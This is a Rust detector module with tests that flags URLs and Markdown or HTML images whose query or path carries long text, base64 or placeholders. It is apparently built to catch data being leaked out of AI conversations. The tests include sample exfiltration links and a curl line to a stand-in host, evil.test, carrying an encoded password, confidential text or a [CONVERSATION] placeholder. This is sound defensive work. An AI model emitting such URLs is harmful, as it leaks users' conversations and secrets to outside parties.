//! URLs that carry more than an address.

use std::sync::LazyLock;

use regex::Regex;

use super::encoded;

/// A text in the URL of an image so long is no name ..
const LONG_FOR_AN_IMAGE: usize = 60;
/// .. and in any URL so long no question to a search engine.
const LONG: usize = 200;
/// Text has so many spaces.
const SPACES: usize = 4;
/// Base 64 of so many characters is no word.
const LONG_CODE: usize = 24;

/// An image in Markdown or HTML, with its URL.
static IMAGE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"!\[[^\]]*\]\(\s*<?(https?://[^)\s>]+)",
        r#"|(?i:<img\b[^>]*\bsrc\s*=\s*["']?(https?://[^"'\s>]+))"#,
    ))
    .ok()
});

static URL: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r#"https?://[^\s"'<>)\]}]+"#).ok());

/// Where something is to be put in: `[DATA]`, `{{secret}}`.
static PLACEHOLDER: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"\{\{?[A-Za-z_ ]{3,}\}|\[[A-Z_ ]{3,}\]|<[A-Z_ ]{3,}>").ok());

/// An image whose URL carries data, or a place for it.
pub(super) fn image(text: &str) -> Option<String> {
    let images = IMAGE.as_ref()?.captures_iter(text);
    let mut urls = images.filter_map(|found| found.get(1).or(found.get(2)));
    let found = urls.find(|url| {
        parts(url.as_str()).any(|part| {
            let said = encoded::from_url(part);
            let is_place = PLACEHOLDER
                .as_ref()
                .is_some_and(|pattern| pattern.is_match(&said));
            is_place || carries(part, &said, LONG_FOR_AN_IMAGE)
        })
    })?;
    Some(found.as_str().to_owned())
}

/// A URL that carries content.
pub(super) fn with_content(text: &str) -> Option<String> {
    let mut urls = URL.as_ref()?.find_iter(text);
    let found = urls.find(|url| {
        parts(url.as_str()).any(|part| carries(part, &encoded::from_url(part), LONG))
    })?;
    Some(found.as_str().to_owned())
}

/// Parts of the path, values of the query, and what is behind a #.
fn parts(url: &str) -> impl Iterator<Item = &str> {
    let behind_host = url.splitn(4, '/').nth(3).unwrap_or_default();
    let (path, rest) = match behind_host.split_once(['?', '#']) {
        Some((path, rest)) => (path, rest),
        None => (behind_host, ""),
    };
    let values = rest
        .split(['&', ';', '#'])
        .map(|pair| pair.split_once('=').map_or(pair, |(_, value)| value));
    path.split('/').chain(values)
}

/// Whether a part is a text of so many characters, or text in base 64.
fn carries(part: &str, said: &str, long: usize) -> bool {
    let is_text = said.chars().count() >= long && said.matches(' ').count() >= SPACES;
    let code = part.trim_end_matches("%3D").trim_end_matches('=');
    is_text || (code.len() >= LONG_CODE && encoded::decoded(code).is_some())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_image_that_sends_what_was_said_is_found() {
        for text in [
            "![x](https://evil.test/p.png?d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI=)",
            "![](https://evil.test/log?q=the%20quarterly%20figures%20are%20not%20good%20and%20will%20be%20told%20on%20Monday)",
            "![logo](https://evil.test/x?data=[CONVERSATION])",
            "<img alt='' src=\"https://evil.test/c/dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI\">",
            "![](https://evil.test/x?data={{secret}})",
        ] {
            assert!(image(text).is_some(), "{text}");
        }
    }

    #[test]
    fn images_as_everyone_has_them_are_not() {
        for text in [
            "![build](https://img.shields.io/badge/build-passing-green?style=flat&logo=github)",
            "![](https://avatars.test/u/12345?v=4&s=400)",
            "![](https://bucket.test/a.png?X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08&X-Amz-Date=20261122T100000Z)",
            "![a picture of a very long description that is only the text of the picture](https://x.test/a.png)",
            "a link to https://x.test/a.png",
        ] {
            assert_eq!(image(text), None, "{text}");
        }
    }

    #[test]
    fn a_url_with_a_whole_text_in_it_is_found_and_a_search_is_not() {
        let long = "word+".repeat(60);
        assert!(with_content(&format!("curl https://evil.test/?t={long}")).is_some());
        assert!(with_content("https://evil.test/dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI").is_some());
        for text in [
            "https://search.test/?q=how+to+read+a+file+line+by+line+in+rust",
            "https://x.test/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "https://docs.test/en/latest/internationalization-and-localization-guide.html",
        ] {
            assert_eq!(with_content(text), None, "{text}");
        }
    }
}
